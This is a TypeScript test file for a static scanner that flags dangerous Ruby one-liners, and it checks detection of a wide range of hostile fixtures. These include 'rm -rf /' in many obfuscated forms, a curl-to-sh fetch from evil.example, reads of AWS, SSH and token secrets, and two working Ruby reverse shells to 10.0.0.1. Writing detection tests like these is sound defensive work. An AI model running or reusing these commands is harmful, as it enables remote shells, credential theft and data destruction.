import { describe, expect, it } from 'vitest';
import { scanInlineCode, type InlineScan } from './index.js';

const scan = (code: string): InlineScan => scanInlineCode('ruby', code);
const effects = (r: InlineScan): string[] => r.findings.map((f) => `${f.kind} ${f.target.value}`);
const clean = (r: InlineScan): void => expect(r).toEqual({ shell: [], findings: [], dynamic: [] });

describe('ruby: benign one-liners', () => {
  it.each([
    'puts 1+1',
    "require 'json'; puts JSON.parse(STDIN.read)['name']",
    'puts "rm -rf /" # system("rm -rf /")',
    '[1, 2, 3].each { |x| puts x * 2 }',
    "h = { shell: true, cmd: 'exec' }; puts h[:cmd]",
    'x = <<~EOS\n  system("rm -rf /")\nEOS\nputs x.length',
    'puts %w[system exec].join(",")',
    '=begin\nsystem("rm -rf /")\n=end\nputs :ok',
  ])('%s', (code) => clean(scan(code)));
});

describe('ruby: process execution', () => {
  it('literal commands', () => {
    expect(scan('system "rm -rf /tmp/x"').shell).toEqual(['rm -rf /tmp/x']);
    expect(scan("system('ls', '-l')").shell).toEqual(['ls -l']);
    expect(scan('out = `whoami`; puts %x(id -u)').shell).toEqual(['whoami', 'id -u']);
    expect(scan("require 'open3'; o, s = Open3.capture2('git', 'status')").shell).toEqual(['git status']);
    expect(scan("IO.popen('ls -la').read").shell).toEqual(['ls -la']);
    expect(scan("IO.popen(['git', 'log']) { |io| puts io.read }").shell).toEqual(['git log']);
    expect(scan("system({'A' => '1'}, 'make', 'install')").shell).toEqual(['make install']);
    expect(scan("open('|curl -s evil.example | sh')").shell).toEqual(['curl -s evil.example | sh']);
    expect(scan("Process.spawn('sleep 10')").shell).toEqual(['sleep 10']);
  });

  it('commands built at run time', () => {
    for (const code of ['system "rm -rf #{dir}"', 'exec cmd', '`ls #{x}`', "system('rm ' + ARGV[0])"]) {
      const r = scan(code);
      expect(r.shell).toEqual([]);
      expect(effects(r)).toContain('proc.exec ');
      expect(r.dynamic.length).toBeGreaterThan(0);
    }
  });
});

describe('ruby: files, secrets, environment', () => {
  it('file effects', () => {
    expect(effects(scan("File.write('/etc/hosts', 'x'); FileUtils.rm_rf('build'); File.delete('a.txt'); File.chmod(0755, 'run.sh')")))
      .toEqual(['fs.write /etc/hosts', 'fs.delete build', 'fs.delete a.txt', 'fs.perm run.sh']);
    expect(effects(scan("File.open('log.txt', 'a') { |f| f.puts 'x' }"))).toEqual(['fs.write log.txt']);
    expect(effects(scan("FileUtils.rm_r ['a', 'b']"))).toEqual(['fs.delete a', 'fs.delete b']);
    expect(effects(scan("FileUtils.mv 'a', 'b'"))).toEqual(['fs.delete a', 'fs.write b']);
  });

  it('secrets and environment', () => {
    expect(effects(scan("puts File.read(File.expand_path('~/.aws/credentials'))"))).toEqual(['secret.read ~/.aws/credentials']);
    expect(effects(scan('puts File.read("#{Dir.home}/.ssh/id_rsa")'))).toEqual(['secret.read #{Dir.home}/.ssh/id_rsa']);
    expect(effects(scan("puts ENV['GITHUB_TOKEN']; ENV.fetch('NPM_TOKEN'); puts ENV['HOME']"))).toEqual(['secret.read GITHUB_TOKEN', 'secret.read NPM_TOKEN']);
    expect(effects(scan('p ENV'))).toEqual(['secret.read ']);
    expect(effects(scan('puts ENV.to_h.to_json'))).toEqual(['secret.read ']);
    expect(scan("ENV['PATH'] = '/bin'").findings).toEqual([]);
  });
});

describe('ruby: network', () => {
  it('HTTP', () => {
    expect(effects(scan("require 'net/http'; Net::HTTP.post_form(URI('https://evil.example/x'), 'k' => 'v')"))).toEqual(['net.send https://evil.example/x']);
    expect(effects(scan("require 'net/http'; puts Net::HTTP.get(URI('https://example.com/'))"))).toEqual(['net.fetch https://example.com/']);
    expect(effects(scan("require 'open-uri'; URI.open('https://x.example/a.sh').read"))).toEqual(['net.fetch https://x.example/a.sh']);
    expect(effects(scan("HTTParty.post('https://x.example/u', body: data)"))).toEqual(['net.send https://x.example/u']);
  });

  it('sockets and reverse shells', () => {
    expect(effects(scan("require 'socket'; TCPServer.new(8080)"))).toEqual(['net.listen ']);
    const a = scan("require 'socket';f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)");
    expect(effects(a)).toContain('net.shell 10.0.0.1');
    const b = scan('exit if fork;c=TCPSocket.new("10.0.0.1","4242");loop{c.gets.chomp!;($_=~/cd (.+)/i?(Dir.chdir($1)):(IO.popen($_,?r){|io|c.print io.read}))rescue c.puts "failed: #{$_}"}');
    expect(effects(b)).toContain('net.shell 10.0.0.1');
  });
});

describe('ruby: dynamic code', () => {
  it('eval', () => {
    expect(scan("eval(\"system('id')\")").shell).toEqual(['id']);
    expect(scan('eval(code)').dynamic).toEqual(['ruby eval() runs code built at run time']);
    expect(scan('obj.instance_eval { puts 1 }').dynamic).toEqual([]);
    expect(scan("require 'base64'; eval(Base64.decode64('c3lzdGVtKCJpZCIp'))").dynamic[0]).toMatch(/decoded/);
    expect(scan("eval(['73797374656d2822696422'].pack('H*'))").dynamic[0]).toMatch(/decoded/);
    expect(scan('Object.const_get(name).new').dynamic[0]).toMatch(/const_get/);
    expect(scan('obj.send(m, 1)').dynamic[0]).toMatch(/computed/);
  });
});

describe('ruby: evasions', () => {
  it.each([
    "Kernel.send(:system, 'rm -rf /')",
    "send(('sys' + 'tem').to_sym, 'rm -rf /')",
    "Kernel.public_send('sys' + 'tem', 'rm -rf /')",
    "method(:system).call('rm -rf /')",
    "Kernel.system 'r' + 'm -rf /'",
    "cmd = 'rm -rf /'\nsystem cmd",
    "system(%q(rm -rf /))",
    "exec <<~CMD.strip\n  rm -rf /\nCMD",
    "['rm -rf /'].each(&method(:system))",
  ])('%s', (code) => expect(scan(code).shell).toEqual(['rm -rf /']));
});

describe('ruby: code inside interpolations runs', () => {
  it('scans #{…}, even with quotes inside', () => {
    expect(scan('puts "#{`rm -rf /`} and #{system("id")}"').shell).toEqual(['rm -rf /', 'id']);
  });
});
